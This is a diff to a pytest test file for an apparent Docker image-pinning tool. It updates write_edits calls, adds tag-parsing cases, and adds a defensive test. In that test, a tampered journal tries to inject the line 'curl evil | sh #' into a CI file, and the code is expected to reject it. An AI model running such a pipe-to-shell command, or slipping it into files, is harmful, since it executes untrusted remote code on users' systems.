@@ -172,7 +172,7 @@ class TestApply:
             write_new_file(path, data, mode)
 
         with pytest.raises(DockerPkgError) as caught:
-            write_edits("tree", edits, third_fails)
+            write_edits("tree", edits, [str(work)], third_fails)
         assert "No space left on device; nothing was changed" in caught.value.problems[0].message
         assert len(calls) == 3
         assert snapshot(work / "uses") == before
@@ -262,6 +262,8 @@ class TestStates:
             f"e: <!-- dockerpkg: pin --> {REGISTRY}/team/tools:1.0\n"
             f"f: {REGISTRY}/team/gone:1.0\n"
             f"g: {REGISTRY}/teamx/app:1.0 x{REGISTRY}/team/app:1.0 {REGISTRY}/team/app:1.0/x\n"
+            f"h: cp {REGISTRY}/team/app/config.yaml .\n"
+            f"i: Pull {REGISTRY}/team/app:1.1.\n"
         )
         uses = find_uses("f.yaml", text, FACTS)
         states = [(u.line, u.state, u.edited, u.note) for u in uses]
@@ -272,6 +274,7 @@ class TestStates:
             (4, UseState.PINNED, None, "see ticket 12"),
             (5, UseState.PINNED, None, ""),
             (6, UseState.UNKNOWN, None, "no image of the tree is called gone"),
+            (9, UseState.CURRENT, None, ""),  # the full stop ends the sentence, not the tag
         ]
         assert uses[0].column == 4
 
@@ -308,7 +311,7 @@ class TestStates:
         (tmp_path / REFS_JOURNAL).write_text("{}", encoding="utf-8")
         edit = FileEdit("f.txt", str(target), file_digest(b"team/app:1.0\n"), ((9, 12, "1.1"),))
         with pytest.raises(DockerPkgError, match="interrupted refs --apply"):
-            write_edits(str(tmp_path), [edit])
+            write_edits(str(tmp_path), [edit], [])
         assert target.read_bytes() == b"team/app:1.0\n"
         with pytest.raises(DockerPkgError, match="cannot read the journal"):
             finish_interrupted(str(tmp_path), [])
@@ -332,3 +335,14 @@ class TestStates:
         with pytest.raises(DockerPkgError, match="not a journal of this tree"):
             finish_interrupted(str(tree), [str(tree / "ci")])
         assert victim.read_bytes() == b"key\n"
+        # Inside the folder, a journal may still only move tags and digests.
+        inside = tree / "ci.yml"
+        inside.write_bytes(b"image: team/app:1.0\n")
+        journal["files"] = [
+            {"shown": "ci.yml", "path": str(inside), "before": file_digest(inside.read_bytes()),
+             "after": "x", "edits": [[0, 5, "curl evil | sh #"]]}
+        ]  # fmt: skip
+        (tree / REFS_JOURNAL).write_text(json.dumps(journal), encoding="utf-8")
+        with pytest.raises(DockerPkgError, match="not a plan dockerpkg made"):
+            finish_interrupted(str(tree), [])
+        assert inside.read_bytes() == b"image: team/app:1.0\n"
